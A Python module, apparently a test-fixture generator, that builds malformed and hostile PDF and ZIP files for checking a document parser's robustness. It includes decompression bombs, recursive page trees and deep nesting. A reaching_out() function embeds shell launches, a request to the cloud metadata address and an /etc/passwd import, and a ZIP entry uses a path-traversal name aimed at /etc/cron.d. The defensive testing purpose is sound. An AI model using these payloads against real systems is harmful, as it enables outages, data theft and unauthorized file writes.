"""Documents made to hang, fill or fool a reader. Each is built when asked for, by hand, from nothing of others'."""

import random
import zlib
from collections.abc import Callable
from typing import Final

from helpers.pdfs import FIRST, FONT, assemble, form, pdf_of, picture, stream, text

MB: Final = 1_000_000
CLAUSE: Final = text("This Agreement is made between the parties named below.", y=700)


def deflated(unit: bytes, size: int) -> bytes:
    """`size` bytes of a repeated unit, deflated; about a thousandth of that."""
    packer = zlib.compressobj(9)
    block = unit * (MB // len(unit))
    return b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()


def drawn(content: bytes, entries: str = "") -> bytes:
    """A page whose content is this stream."""
    return pdf_of("", extra=[stream(content, entries)]).replace(
        b"/Contents %d 0 R" % (FIRST + 2), b"/Contents %d 0 R" % FIRST
    )


def flate_bomb() -> bytes:
    """150 MB of blanks in 150 KB."""
    return drawn(deflated(b" ", 150 * MB), "/Filter /FlateDecode")


def nested_filters() -> bytes:
    """150 MB deflated three times."""
    packed = zlib.compress(zlib.compress(deflated(b" ", 150 * MB), 9), 9)
    return drawn(packed, "/Filter [/FlateDecode /FlateDecode /FlateDecode]")


def run_length_and_hex() -> bytes:
    """Thirty filters on each other."""
    return drawn(b"41>" * 1000, f"/Filter [{'/ASCIIHexDecode /ASCII85Decode /LZWDecode ' * 10}]")


def object_stream_bomb() -> bytes:
    """An object stream of 100 MB that says it holds a million objects."""
    packed = deflated(b"9 0 ", 100 * MB)
    entries = "/Type /ObjStm /N 1000000 /First 8000000 /Filter /FlateDecode"
    return pdf_of(CLAUSE, extra=[stream(packed, entries)])


def huge_image() -> bytes:
    """A picture of 3.6 thousand million pixels."""
    pixels = deflated(b"\0", 50 * MB)
    return pdf_of(
        CLAUSE + f"q 612 0 0 792 0 0 cm /I Do Q {CLAUSE}",
        resources=f"/XObject << /I {FIRST} 0 R >>",
        extra=[picture(60_000, 60_000, pixels, "/Filter /FlateDecode")],
    )


def many_objects() -> bytes:
    """Two million lines to draw, in 60 KB."""
    return drawn(deflated(b"0 0 m 9 9 l S ", 28 * MB), "/Filter /FlateDecode")


def many_words() -> bytes:
    """A million words on one page."""
    return drawn(deflated(b"BT /F1 9 Tf 9 9 Td (words) Tj ET ", 33 * MB), "/Filter /FlateDecode")


def one_long_word() -> bytes:
    """A page of 300,000 characters in one line."""
    words = f"({'words ' * 5_000}) Tj "
    return pdf_of(f"BT /F1 1 Tf 72 700 Td {words * 10} ET")


def many_pages() -> bytes:
    """2,001 pages."""
    return pdf_of(*[""] * 2001)


def lying_count() -> bytes:
    """One page that says it is a thousand million."""
    return pdf_of(CLAUSE).replace(b"/Count 1 ", b"/Count 1000000000 ")


def page_tree(kids: str, *more: str) -> bytes:
    """A tree of pages as written."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: f"<< /Type /Pages /Count 3 /Kids [{kids}] >>".encode()}
    return assemble(objects | {number: body.encode() for number, body in enumerate(more, start=3)})


def cyclic_pages() -> bytes:
    """Pages that hold each other."""
    return page_tree("3 0 R", "<< /Type /Pages /Parent 2 0 R /Count 3 /Kids [2 0 R 3 0 R 2 0 R] >>")


def deep_pages() -> bytes:
    """A tree of pages 50,000 deep."""
    nodes = [f"<< /Type /Pages /Parent {n - 1} 0 R /Count 1 /Kids [{n + 1} 0 R] >>" for n in range(3, 50_000)]
    return page_tree("3 0 R", *nodes, f"<< /Type /Page /Parent {len(nodes) + 2} 0 R /MediaBox [0 0 9 9] >>")


def deep_arrays() -> bytes:
    """Arrays in arrays, 500,000 deep."""
    return pdf_of(CLAUSE, catalog="/Deep " + "[" * 500_000)


def deep_dictionaries() -> bytes:
    """Dictionaries in dictionaries, 200,000 deep."""
    return pdf_of(CLAUSE, page="/Deep " + "<< /A " * 200_000)


def deep_states() -> bytes:
    """Two million saved graphics states."""
    return drawn(deflated(b"q ", 4 * MB), "/Filter /FlateDecode")


def form_in_itself() -> bytes:
    """A form that draws itself."""
    drawing = form("/X Do", f"/Resources << /XObject << /X {FIRST} 0 R >> >>")
    return pdf_of(CLAUSE + "/X Do", resources=f"/XObject << /X {FIRST} 0 R >>", extra=[drawing])


def forms_in_forms() -> bytes:
    """Ten forms in ten forms in ten forms …, twelve deep."""
    chain = [
        stream(
            b"/X Do " * 10,
            f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {number} 0 R >> >>",
        )
        for number in range(FIRST + 1, FIRST + 12)
    ]
    last = form(text("words"))
    return pdf_of(CLAUSE + "/X Do", resources=f"/XObject << /X {FIRST} 0 R >>", extra=[*chain, last])


def transparent_groups() -> bytes:
    """Transparent groups in groups, 25 deep, each painted apart."""
    group = "/Group << /S /Transparency /I true /K true >>"
    chain = [
        stream(
            b"/G gs /X Do /X Do",
            f"/Type /XObject /Subtype /Form /BBox [0 0 612 792] {group} "
            f"/Resources << /ExtGState << /G << /ca 0.9 >> >> /XObject << /X {number} 0 R >> >>",
        )
        for number in range(FIRST + 1, FIRST + 25)
    ]
    last = form(text("words"), group)
    return pdf_of(CLAUSE + "/X Do", resources=f"/XObject << /X {FIRST} 0 R >>", extra=[*chain, last])


def tiny_tiles() -> bytes:
    """A pattern whose tiles are a millionth of a point."""
    tile = stream(
        b"0 0 1 1 re f",
        "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.000001 /YStep 0.000001 "
        "/Resources << >>",
    )
    return pdf_of(
        f"/Pattern cs /P scn 0 0 612 792 re f 0 g {CLAUSE}", resources=f"/Pattern << /P {FIRST} 0 R >>", extra=[tile]
    )


def tiny_dashes() -> bytes:
    """Lines of a thousand million dashes."""
    return pdf_of(CLAUSE + "[0.0000001] 0 d 1 w " + "0 0 m 600 700 l S " * 1000)


def endless_shading() -> bytes:
    """A shading whose colour is computed by a long program."""
    program = b"{ " + b"dup mul 2 add sin cos " * 20_000 + b" dup dup }"
    function = stream(program, "/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]")
    shading = (
        "/Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1 0 1] /Matrix [612 0 0 792 0 0] "
        f"/Function {FIRST} 0 R >> >>"
    )
    return pdf_of("/S sh " + CLAUSE, resources=shading, extra=[function])


def huge_unicode_map() -> bytes:
    """A font whose map to Unicode has 20,000 entries, each of 65,536 codes."""
    entry = b"<0000> <ffff> <" + b"0041" * 200 + b">\n"
    cmap = deflated(b"100 beginbfrange\n" + entry * 100 + b"endbfrange\n", 20 * MB)
    font = (
        f"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode {FIRST + 1} 0 R "
        f"/DescendantFonts [{FIRST + 2} 0 R] >>"
    )
    descendant = (
        "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X "
        "/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>"
    )
    return pdf_of(
        CLAUSE + "BT /X 12 Tf 72 600 Td <00410042> Tj ET",
        resources=f"/Font << {FONT} /X {FIRST} 0 R >>",
        extra=[font, stream(cmap, "/Filter /FlateDecode"), descendant],
    )


def glyph_in_itself() -> bytes:
    """A glyph that is drawn with itself."""
    font = (
        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 10 10] /FontMatrix [.1 0 0 .1 0 0] /FirstChar 97 /LastChar 97 "
        f"/Widths [10] /Encoding << /Differences [97 /a] >> /CharProcs << /a {FIRST + 1} 0 R >> "
        f"/Resources << /Font << /T {FIRST} 0 R >> >> >>"
    )
    glyph = stream(b"10 0 d0 BT /T 10 Tf (aa) Tj ET 0 0 5 5 re f")
    return pdf_of(
        CLAUSE + "BT /T 20 Tf 72 600 Td (aaaa) Tj ET",
        resources=f"/Font << {FONT} /T {FIRST} 0 R >>",
        extra=[font, glyph],
    )


def absurd_numbers() -> bytes:
    """Sizes, places and boxes without end."""
    huge = "9" * 300
    words = "".join(
        f"BT /F1 {size} Tf {x} 600 Td (words) Tj ET " for size in (huge, f"-{huge}", "0", "1e38") for x in (huge, "0")
    )
    matrices = f"q {huge} 0 0 {huge} 0 0 cm {CLAUSE} Q q 0 0 0 0 0 0 cm {CLAUSE} Q "
    return pdf_of(CLAUSE + words + matrices, page=f"/CropBox [-{huge} -{huge} {huge} {huge}] /UserUnit {huge}")


def absurd_page(box: str) -> Callable[[], bytes]:
    """A page of this size."""
    return lambda: pdf_of(CLAUSE, box=box)


def many_annotations() -> bytes:
    """A page with 5,001 comments."""
    return pdf_of(CLAUSE, page=f"/Annots [{f'{FIRST} 0 R ' * 5001}]", extra=["<< /Type /Annot /Subtype /Text >>"])


def looping_table() -> bytes:
    """A cross-reference table whose predecessor is itself."""
    data = pdf_of(CLAUSE)
    table = data.rindex(b"xref\n0")
    return data.replace(b"/Root", b"/Prev %d /Root" % table)


def looping_objects() -> bytes:
    """References to themselves, where numbers and streams are expected."""
    length = f"<< /Length {FIRST} 0 R >>\nstream\nendstream"
    return pdf_of(CLAUSE, page=f"/Rotate {FIRST + 1} 0 R /Annots {FIRST + 1} 0 R", extra=[length, f"{FIRST + 1} 0 R"])


def reaching_out() -> bytes:
    """Whatever may fetch, start or run something, each once."""
    actions = [
        "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>",
        "<< /S /URI /URI (http://169.254.169.254/latest/meta-data/) >>",
        "<< /S /GoToR /F << /FS /URL /F (http://127.0.0.1:9/x.pdf) >> /D [0 /Fit] >>",
        "<< /S /SubmitForm /F << /FS /URL /F (http://127.0.0.1:9/) >> >>",
        "<< /S /ImportData /F (/etc/passwd) >>",
        "<< /S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:9/'\\)) >>",
    ]
    outside = picture(1, 1, b"", "/F << /FS /URL /F (http://127.0.0.1:9/i.png) >>")
    page = form("", "/Ref << /F (/etc/passwd) /Page 0 >>")
    chained = " ".join(actions)
    return pdf_of(
        CLAUSE + "/I Do /R Do",
        resources=f"/XObject << /I {FIRST} 0 R /R {FIRST + 1} 0 R >>",
        page=f"/AA << /O {actions[0]} >>",
        catalog=f"/OpenAction {actions[5]} /AA << /WC {actions[1]} >> /Next [{chained}] "
        f"/Names << /JavaScript << /Names [(a) {actions[5]}] >> >>",
        extra=[outside, page],
    )


def in_a_zip(name: bytes = b"../../../etc/cron.d/x.pdf", size: int = 100 * MB) -> bytes:
    """A ZIP bomb, as one would name `contract.pdf`."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(raw.compress(b"\0" * MB) for _ in range(size // MB)) + raw.flush()
    fields = b"\x14\0\0\0\x08\0\0\0\0\0" + b"\0" * 4 + len(packed).to_bytes(4, "little") + size.to_bytes(4, "little")
    local = b"PK\x03\x04" + fields + len(name).to_bytes(2, "little") + b"\0\0" + name + packed
    central = b"PK\x01\x02\x14\0" + fields + len(name).to_bytes(2, "little") + b"\0" * 12 + b"\0" * 4 + name
    end = b"PK\x05\x06\0\0\0\0\x01\0\x01\0" + len(central).to_bytes(4, "little") + len(local).to_bytes(4, "little")
    return local + central + end + b"\0\0"


def pdf_and_zip() -> bytes:
    """A PDF behind which a ZIP archive stands."""
    return pdf_of(CLAUSE) + in_a_zip(size=MB)


def noise(seed: int = 7) -> bytes:
    """A PDF's head, then chance."""
    return b"%PDF-1.7\n" + random.Random(seed).randbytes(200_000)  # noqa: S311
